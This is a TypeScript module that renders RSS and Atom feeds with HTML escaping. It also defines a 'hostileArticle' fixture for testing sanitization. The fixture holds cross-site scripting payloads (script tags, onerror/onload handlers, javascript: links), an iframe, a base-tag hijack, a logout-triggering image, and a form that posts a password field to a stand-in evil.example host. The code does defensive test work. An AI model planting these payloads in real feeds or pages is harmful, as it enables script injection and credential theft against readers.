import { escapeHtml } from '../http/html-page.ts'
import type { SampleArticle } from './simulated-news.ts'

type Feed = { readonly title: string; readonly address: string; readonly articles: readonly SampleArticle[] }

export function renderRss({ title, address, articles }: Feed): string {
  const items = articles.map(
    ({ id, title: headline, lead, html, atMs }) => `<item>
<title>${escapeHtml(headline)}</title>
<link>${escapeHtml(`${address}#${id}`)}</link>
<guid isPermaLink="false">${escapeHtml(id)}</guid>
<pubDate>${new Date(atMs).toUTCString()}</pubDate>
<description>${escapeHtml(lead)}</description>
<content:encoded><![CDATA[${html.replaceAll(']]>', '')}]]></content:encoded>
</item>`,
  )
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>${escapeHtml(title)}</title><link>${escapeHtml(address)}</link><description>${escapeHtml(title)}</description>
${items.join('\n')}
</channel></rss>`
}

export function renderAtom({ title, address, articles }: Feed): string {
  const entries = articles.map(
    ({ id, title: headline, lead, html, atMs }) => `<entry>
<title>${escapeHtml(headline)}</title>
<id>${escapeHtml(`${address}#${id}`)}</id>
<link href="${escapeHtml(`${address}#${id}`)}"/>
<updated>${new Date(atMs).toISOString()}</updated>
<summary>${escapeHtml(lead)}</summary>
<content type="html">${escapeHtml(html)}</content>
</entry>`,
  )
  return `<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title>${escapeHtml(title)}</title><id>${escapeHtml(address)}</id><updated>${new Date(articles[0]?.atMs ?? 0).toISOString()}</updated>
${entries.join('\n')}
</feed>`
}

/** An article that a broken or captured feed could contain. */
export const hostileArticle: SampleArticle = {
  id: 'hostile',
  title: 'Hostile <script>alert(1)</script> &lt;b&gt;title&lt;/b&gt;',
  lead: '<img src=x onerror="alert(1)">A <b>hostile</b> summary',
  html:
    '<p onclick="alert(1)" style="position:fixed">Hostile text</p><script>document.title="hacked"</script>' +
    '<img src="https://tracker.example/pixel.gif"><img src="/api/logout"><iframe src="https://evil.example"></iframe>' +
    '<a href="javascript:alert(1)">script</a> <a href="/api/logout">here</a> <a href="https://news.example/1">there</a>' +
    '<form action="https://evil.example"><input name="password"></form><svg onload="alert(1)"><math>' +
    '<style>body{display:none}</style><base href="https://evil.example/">',
  atMs: 0,
}
